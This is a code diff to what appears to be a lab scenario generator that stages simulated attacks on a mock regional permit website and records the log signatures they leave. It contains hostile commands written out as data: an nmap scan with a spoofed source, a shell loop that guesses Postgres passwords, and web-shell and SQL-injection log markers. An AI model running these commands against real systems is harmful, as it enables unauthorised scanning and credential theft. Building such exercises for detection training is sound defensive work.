@@ -8,7 +8,7 @@ from datetime import timedelta
 from typing import TYPE_CHECKING
 from urllib.parse import quote, urlencode
 
-from day import AGENTS, BOT, DB, SITE, WEB, Visitor, at
+from day import AGENTS, BOT, DB, RESIDENTS, SITE, WEB, Visitor, at
 from stage import Session
 
 if TYPE_CHECKING:
@@ -65,9 +65,15 @@ class Attack:
 def port_scan(day: Day) -> Story:
     """Nmap knocks at a thousand ports while an ordinary visitor goes on reading."""
     scan = "nmap -sS -Pn -n -T4 -e eth0 -S 203.0.113.200 -p 1-1000,3306,5432,6379,8080 " + WEB
-    capture = day.web.start("tcpdump", "-Z", "root", "-U", "-i", "eth0", "-w", "/root/portscan.pcap")
+    capture = day.web.start(
+        "tcpdump", "-Z", "root", "-U", "-i", "eth0", "-w", "/root/portscan.pcap"
+    )
     yield day.outside.start("sleep", "2")
+    reader = Visitor(day, RESIDENTS[0], AGENTS[3])
+    for page in ("/", "/persyaratan", "/izin/2"):
+        reader.ask(page)
     yield day.outside.start(*scan.split())
+    reader.ask("/kontak")
     # Packets reach tcpdump in blocks, up to a second late.
     yield day.outside.start("sleep", "2")
     capture.terminate()
@@ -220,7 +226,9 @@ def number_in_address(day: Day) -> Story:
 def database_export(day: Day) -> Story:
     """From the taken web server passwords of the database are guessed and residents copied out."""
     session = intruder(day, BACKDOOR, BACKDOOR_PASSWORD)
-    guesses = "admin 123456 postgres laporan laporan123 laporan2025 rahasia izin2026 perizinan kabupaten"
+    guesses = (
+        "admin 123456 postgres laporan laporan123 laporan2025 rahasia izin2026 perizinan kabupaten"
+    )
     ask = f"PGPASSWORD=$p psql -h {DB} -U laporan -d perizinan -c 'SELECT 1'"
     session.type(f"for p in {guesses}; do {ask}; sleep 1; done")
     yield 25
@@ -304,7 +312,7 @@ ATTACKS = [
     Attack(
         "sqlmap-in-database", "Errors of the injection in the database",
         "Galat injeksi di basis data", "db-izin", (POSTGRES,),
-        ("ERROR:  syntax error at or near", "unterminated quoted string"), "11:12",
+        ("ERROR:  syntax error at or near", "ORDER BY position"), "11:12",
         sources=(WEB,), user="izin_app", same_as="sqlmap",
     ),
     Attack(
@@ -316,7 +324,7 @@ ATTACKS = [
     Attack(
         "web-shell", "Web shell uploaded and used", "Web shell diunggah dan dipakai",
         "web-izin", (NGINX, APACHE, LARAVEL, AUDIT),
-        ("GET /uploads/kartu_keluarga.php?cmd=id", "uploads/kartu_keluarga.php"),
+        ("GET /uploads/kartu_keluarga.php?cmd=id", '"berkas":"uploads/kartu_keluarga.php"'),
         "13:10", web_shell, (SHELL,),
     ),
     Attack(
